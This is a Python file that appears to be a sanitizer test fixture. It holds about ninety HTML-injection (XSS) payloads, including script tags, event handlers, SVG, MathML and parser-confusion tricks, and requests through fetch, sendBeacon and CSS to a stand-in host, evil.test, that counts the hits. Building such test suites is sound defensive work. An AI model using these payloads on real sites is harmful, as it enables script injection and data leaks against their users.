"""Texts that run a script or make a request where a page takes them for its own markup.

`RAN` is the script that they run, and `OUT` an address that they ask for; both say which text it was.
"""

PAYLOADS = tuple(
    line.strip()
    for line in r"""
    <script>RAN</script>
    <sCrIpT>RAN</ScRiPt>
    <script type=module>RAN</script>
    <script src=OUT></script>
    <script>fetch('OUT')</script>
    <script>new Image().src='OUT'</script>
    <script>navigator.sendBeacon('OUT')</script>
    <script>location='OUT'</script>
    <script>import('OUT')</script>
    <script>document.write('<img src=OUT>')</script>
    "><script>RAN</script>
    '><img src=x onerror=RAN>
    --></style></script></title></textarea></xmp><script>RAN</script>
    <img src=x onerror=RAN>
    <img src=x:x onerror="&#99;onsole.log('ran'+&#x27;-NUMBER')">
    <img src=OUT>
    <img srcset=OUT>
    <picture><source srcset=OUT><img></picture>
    <svg onload=RAN>
    <svg/onload=RAN>
    <svg><script>RAN</script></svg>
    <svg><script href=OUT></script></svg>
    <svg><animate onbegin=RAN attributeName=x dur=1s>
    <svg><set onbegin=RAN attributeName=x to=1>
    <svg><image href=OUT></svg>
    <svg><foreignObject><img src=x onerror=RAN></foreignObject></svg>
    <svg><style><img src=x onerror=RAN></style></svg>
    <svg><title><img src=x onerror=RAN></title></svg>
    <svg><a xlink:href="javascript:RAN"><text y=20>x</text></a></svg>
    <svg><a><animate attributeName=href values="javascript:RAN" /><text y=20>x</text></a></svg>
    <math><mtext><img src=x onerror=RAN></mtext></math>
    <math><annotation-xml encoding=text/html><svg onload=RAN></annotation-xml></math>
    <body onload=RAN>
    <body background=OUT>
    <table background=OUT><tr><td>x</table>
    <input autofocus onfocus=RAN>
    <textarea autofocus onfocus=RAN></textarea>
    <select autofocus onfocus=RAN></select>
    <div tabindex=0 onfocus=RAN>x</div>
    <div onmouseover=RAN>x</div>
    <button onclick=RAN>x</button>
    <details open ontoggle=RAN>x</details>
    <button popovertarget=p>x</button><p popover id=p onbeforetoggle=RAN>x</p>
    <video><source onerror=RAN></video>
    <video src=OUT></video>
    <video poster=OUT></video>
    <audio src=x onerror=RAN></audio>
    <audio src=OUT preload=auto></audio>
    <iframe srcdoc="<script>RAN</script>"></iframe>
    <iframe srcdoc="<img src=x onerror=RAN>"></iframe>
    <iframe src="javascript:RAN"></iframe>
    <iframe src="data:text/html,<script>RAN</script>"></iframe>
    <iframe src=OUT></iframe>
    <iframe onload=RAN></iframe>
    <object data=OUT></object>
    <object data="data:text/html,<script>RAN</script>"></object>
    <embed src=OUT>
    <embed src="data:text/html,<script>RAN</script>">
    <a href="javascript:RAN">x</a>
    <a href="JaVaScRiPt:RAN">x</a>
    <a href="java&#x09;script:RAN">x</a>
    <a href="data:text/html,<script>RAN</script>">x</a>
    <a ping=OUT href="#">x</a>
    <form action="javascript:RAN"><button>x</button></form>
    <form action=OUT><button>x</button></form>
    <form><button formaction="javascript:RAN">x</button></form>
    <form id=f></form><input type=submit form=f formaction=OUT>
    <input type=image src=OUT>
    <meta http-equiv=refresh content="0;url=OUT">
    <meta http-equiv=refresh content="0;url=data:text/html,<script>RAN</script>">
    <base href="OUT/"><img src=x>
    <link rel=stylesheet href=OUT>
    <link rel=preload as=image href=OUT>
    <link rel=prefetch href=OUT>
    <style>@import url(OUT);</style>
    <style>*{background:url(OUT)}</style>
    <style>@font-face{font-family:x;src:url(OUT)}*{font-family:x}</style>x
    <style>*::before{content:url(OUT)}</style>
    <style>@keyframes a{}</style><p style=animation:a onanimationstart=RAN>x</p>
    <div style="background:url(OUT)">x</div>
    <p style=content-visibility:auto oncontentvisibilityautostatechange=RAN>x</p>
    <div><template shadowrootmode=open><img src=x onerror=RAN></template></div>
    <noscript><p title="</noscript><img src=x onerror=RAN>"></noscript>
    <xmp><p title="</xmp><svg onload=RAN>"></xmp>
    <style><img title="</style><img src=x onerror=RAN>"></style>
    """.strip().splitlines()
)


def armed(leak_port: int) -> list[str]:
    """The texts with their scripts, and with addresses on a port of this computer where somebody counts."""
    return [
        payload.replace("RAN", f"console.log('ran-{number}')")
        .replace("OUT", f"http://evil.test:{leak_port}/{number}")
        .replace("NUMBER", str(number))
        for number, payload in enumerate(PAYLOADS)
    ]
